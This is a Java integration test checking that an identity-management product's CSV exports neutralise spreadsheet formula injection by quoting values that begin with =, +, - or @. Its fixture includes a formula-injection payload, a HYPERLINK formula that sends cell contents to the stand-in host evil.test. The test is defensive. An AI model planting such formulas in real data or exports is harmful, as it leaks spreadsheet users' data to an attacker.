package com.rollcall.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.rollcall.testing.ConsoleHttp;
import com.rollcall.testing.JsonClient;
import com.rollcall.testing.RollcallServer;
import com.rollcall.testing.ScimClient;
import com.rollcall.testing.Tenant;
import com.rollcall.testing.TestTenants;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * An identity provider can send any text, and admins open backups in spreadsheets: every CSV export (the admin API's
 * and the console's download) writes a value that would run as a formula as text, with a leading single quote;
 * the JSON export keeps the value exactly as sent.
 */
@ExtendWith(RollcallServer.class)
class CsvFormulaIT {
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";

    @Test
    void formulaValuesAreExportedAsText() {
        Tenant tenant = TestTenants.create("CsvFormula");
        ScimClient scim = ScimClient.forTenant(tenant);
        String body = "{\"userName\":\"@formula@csv.test\",\"displayName\":" + jakarta.json.Json.createValue(HYPERLINK)
                + ",\"title\":\"+1 555 0100\",\"urn:ietf:params:scim:schemas:extension:enterprise:2.0:User\":"
                + "{\"department\":\"-2+3\"}}";
        assertEquals(201, scim.post("Users", body).status());
        assertEquals(201, scim.post("Groups", "{\"displayName\":\"=1+1\"}").status());

        ScimClient.Response users = JsonClient.admin(tenant).get("export?format=csv&what=users");
        assertEquals(200, users.status(), users.toString());
        List<String> row = List.of(users.text().split("\r\n")[1].split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)"));
        assertTrue(row.contains("'@formula@csv.test"), row.toString());
        assertTrue(row.contains("\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"Click\"\")\""), row.toString());
        assertTrue(row.contains("'+1 555 0100"), row.toString());
        assertTrue(row.contains("'-2+3"), row.toString());

        ConsoleHttp console = ConsoleHttp.anonymous();
        console.signIn(tenant.adminLogin(), tenant.adminPassword());
        ConsoleHttp.Response groups = console.get("console/export/download?format=csv&what=groups");
        assertEquals(200, groups.status(), groups.toString());
        assertTrue(groups.body().split("\r\n")[1].contains(",'=1+1,"), groups.body());

        ScimClient.Response json = JsonClient.admin(tenant).get("export?format=json");
        assertEquals(HYPERLINK, json.json().getJsonArray("users").getJsonObject(0).getString("displayName"),
                "JSON is not a spreadsheet: the value as sent");
    }
}
